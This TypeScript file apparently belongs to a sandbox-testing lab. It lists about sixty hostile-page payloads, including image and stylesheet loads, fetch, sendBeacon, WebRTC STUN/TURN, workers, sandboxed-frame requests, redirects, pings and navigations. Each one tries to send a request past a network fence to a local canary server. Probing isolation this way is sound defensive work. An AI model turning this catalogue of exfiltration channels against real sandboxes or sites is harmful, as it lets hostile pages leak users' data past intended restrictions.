/**
 * A way in which a page can try to send data past the fence. Each channel has its own canary: a server that listens for
 * TCP and UDP on one port of every local address.
 */
export interface EscapeChannel {
  readonly name: string;
  /** HTML for the hostile page. `http`, `ws`, `host`, and `port` describe the channel's canary. */
  readonly html: (canary: Canary) => string;
  /** Whether the channel leaves the page, so that it needs a separate page. */
  readonly leaves?: boolean;
}

export interface Canary {
  /** Origin such as `http://127.0.0.1:4000`. */
  readonly http: string;
  readonly https: string;
  readonly ws: string;
  readonly host: string;
  readonly port: number;
}

const script = (code: string) => `<script>try{${code}}catch{}</script>`;
const worker = (code: string) => script(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`);
/** A frame with an opaque origin, such as the one that Shopify runs web pixels in. */
const sandboxed = (html: string) =>
  `<iframe sandbox="allow-scripts" srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;

/** Returns a URL that the lab redirects to the channel's canary. */
const redirect = ({ host, port }: Canary, path: string) => `https://redirect.example/${path}/${host}/${port}`;

export const CHANNELS: readonly EscapeChannel[] = [
  // Requests from markup
  { name: 'image', html: c => `<img src="${c.http}/">` },
  { name: 'image with `srcset`', html: c => `<img srcset="${c.http}/ 1x">` },
  { name: 'stylesheet', html: c => `<link rel=stylesheet href="${c.http}/">` },
  { name: 'CSS import', html: c => `<style>@import "${c.http}/";</style>` },
  { name: 'CSS background', html: c => `<div style="background:url(${c.http}/);width:9px;height:9px"></div>` },
  {
    name: 'font',
    html: c => `<style>@font-face{font-family:x;src:url(${c.http}/)}</style><p style="font-family:x">x</p>`,
  },
  { name: 'script', html: c => `<script src="${c.http}/"></script>` },
  { name: 'module import', html: c => `<script type=module>import("${c.http}/")</script>` },
  { name: 'frame', html: c => `<iframe src="${c.http}/"></iframe>` },
  { name: 'object', html: c => `<object data="${c.http}/"></object>` },
  { name: 'embed', html: c => `<embed src="${c.http}/">` },
  { name: 'video', html: c => `<video src="${c.http}/" preload=auto autoplay muted></video>` },
  { name: 'audio', html: c => `<audio src="${c.http}/" preload=auto></audio>` },
  { name: 'SVG use', html: c => `<svg><image href="${c.http}/" width=9 height=9 /></svg>` },
  { name: 'favicon', html: c => `<link rel=icon href="${c.http}/">` },
  { name: 'manifest', html: c => `<link rel=manifest href="${c.http}/">` },
  // Hints
  { name: 'dns-prefetch', html: c => `<link rel=dns-prefetch href="${c.http}">` },
  { name: 'preconnect', html: c => `<link rel=preconnect href="${c.http}">` },
  { name: 'prefetch', html: c => `<link rel=prefetch href="${c.http}/">` },
  { name: 'preload', html: c => `<link rel=preload as=script href="${c.http}/">` },
  { name: 'modulepreload', html: c => `<link rel=modulepreload href="${c.http}/">` },
  {
    name: 'speculation rules for prefetching',
    html: c =>
      `<script type=speculationrules>{"prefetch":[{"source":"list","eagerness":"immediate","urls":["${c.http}/"]}]}</script>`,
  },
  {
    name: 'speculation rules for `prerender`',
    html: c =>
      `<script type=speculationrules>{"prerender":[{"source":"list","eagerness":"immediate","urls":["${c.http}/"]}]}</script>`,
  },
  // Requests from scripts
  { name: 'fetch', html: c => script(`fetch("${c.http}/")`) },
  {
    name: 'fetch with `keepalive`',
    html: c => script(`fetch("${c.http}/",{method:"POST",body:"x",keepalive:true})`),
  },
  { name: 'XMLHttpRequest', html: c => script(`const x=new XMLHttpRequest;x.open("GET","${c.http}/");x.send()`) },
  { name: 'sendBeacon', html: c => script(`navigator.sendBeacon("${c.http}/","x")`) },
  { name: 'EventSource', html: c => script(`new EventSource("${c.http}/")`) },
  { name: 'WebSocket', html: c => script(`new WebSocket("${c.ws}/")`) },
  { name: 'WebTransport', html: c => script(`new WebTransport("${c.https}/").ready.catch(()=>{})`) },
  {
    name: 'STUN',
    html: c =>
      script(
        `const p=new RTCPeerConnection({iceServers:[{urls:"stun:${c.host}:${c.port}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
  },
  {
    name: 'TURN over TCP',
    html: c =>
      script(
        `const p=new RTCPeerConnection({iceServers:[{urls:"turn:${c.host}:${c.port}?transport=tcp",username:"a",credential:"b"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`,
      ),
  },
  {
    name: 'WebRTC candidate',
    html: c =>
      script(
        `const a=new RTCPeerConnection,b=new RTCPeerConnection;a.createDataChannel("x");a.createOffer().then(async o=>{await a.setLocalDescription(o);await b.setRemoteDescription(o);const n=await b.createAnswer();await b.setLocalDescription(n);await a.setRemoteDescription(n);a.addIceCandidate({candidate:"candidate:1 1 udp 2122260223 ${c.host} ${c.port} typ host",sdpMid:"0"})})`,
      ),
  },
  { name: 'fetch from an IPv6 address', html: c => script(`fetch("http://[::1]:${c.port}/",{mode:"no-cors"})`) },
  { name: 'fetch from localhost', html: c => script(`fetch("http://localhost:${c.port}/",{mode:"no-cors"})`) },
  { name: 'fetch from a numeric host', html: c => script(`fetch("http://2130706433:${c.port}/",{mode:"no-cors"})`) },
  // Workers
  { name: 'worker fetch', html: c => worker(`fetch("${c.http}/")`) },
  { name: 'worker importScripts', html: c => worker(`importScripts("${c.http}/")`) },
  { name: 'worker WebSocket', html: c => worker(`new WebSocket("${c.ws}/")`) },
  {
    name: 'nested worker',
    html: c => worker(`new Worker(URL.createObjectURL(new Blob(["fetch('${c.http}/')"])))`),
  },
  { name: 'shared worker', html: c => script(`new SharedWorker("/shared.js?${c.host}/${c.port}")`) },
  { name: 'service worker', html: c => script(`navigator.serviceWorker.register("/service.js?${c.host}/${c.port}")`) },
  { name: 'sandboxed frame fetch', html: c => sandboxed(script(`fetch("${c.http}/")`)) },
  { name: 'sandboxed worker fetch', html: c => sandboxed(worker(`fetch("${c.http}/")`)) },
  { name: 'sandboxed worker importScripts', html: c => sandboxed(worker(`importScripts("${c.http}/")`)) },
  { name: 'data URL frame', html: c => `<iframe src="data:text/html,<img src='${c.http}/'>"></iframe>` },
  {
    name: 'blob URL frame',
    html: c =>
      script(
        `const f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src='${c.http}/'>"],{type:"text/html"}));document.body.append(f)`,
      ),
  },
  // Redirects
  { name: 'redirected image', html: c => `<img src="${redirect(c, 'image')}">` },
  { name: 'redirected fetch', html: c => script(`fetch("${redirect(c, 'fetch')}",{mode:"no-cors"})`) },
  { name: 'redirected frame', html: c => `<iframe src="${redirect(c, 'frame')}"></iframe>` },
  // Reports
  {
    name: 'CSP report',
    html: c => `<iframe src="/csp/${c.host}/${c.port}"></iframe>`,
  },
  { name: 'source map', html: c => script(`eval("1//# sourceMappingURL=${c.http}/")`) },
  // Navigation
  {
    name: 'ping',
    html: c => `<a id=ping href="#x" ping="${c.http}/">x</a>${script('document.getElementById("ping").click()')}`,
  },
  { name: 'popup', html: c => script(`open("${c.http}/")`) },
  {
    name: 'form that targets a new tab',
    html: c =>
      `<form id=form-tab method=post target=_blank action="${c.http}/"></form>${script('document.getElementById("form-tab").submit()')}`,
  },
  {
    name: 'form that targets a frame',
    html: c =>
      `<iframe name=form-frame></iframe><form id=form-frame method=post target=form-frame action="${c.http}/"></form>${script('document.getElementById("form-frame").submit()')}`,
  },
  {
    name: 'download',
    html: c =>
      script(
        `const a=document.createElement("a");a.href="${c.http}/";a.download="x";document.body.append(a);a.click()`,
      ),
    leaves: true,
  },
  { name: 'location', html: c => script(`setTimeout(()=>location.href="${c.http}/",50)`), leaves: true },
  { name: 'meta refresh', html: c => `<meta http-equiv=refresh content="0;url=${c.http}/">`, leaves: true },
  {
    name: 'unload beacon',
    html: c =>
      script(
        `addEventListener("pagehide",()=>navigator.sendBeacon("${c.http}/","x"));addEventListener("beforeunload",e=>e.preventDefault());setTimeout(()=>location.href="/elsewhere",50)`,
      ),
    leaves: true,
  },
  {
    name: 'custom protocol',
    html: c => script(`setTimeout(()=>location.href="intent://${c.host}:${c.port}/#Intent;scheme=http;end",50)`),
    leaves: true,
  },
  {
    name: 'file URL with a host',
    html: c => script(`setTimeout(()=>location.href="file://${c.host}:${c.port}/x",50)`),
    leaves: true,
  },
];
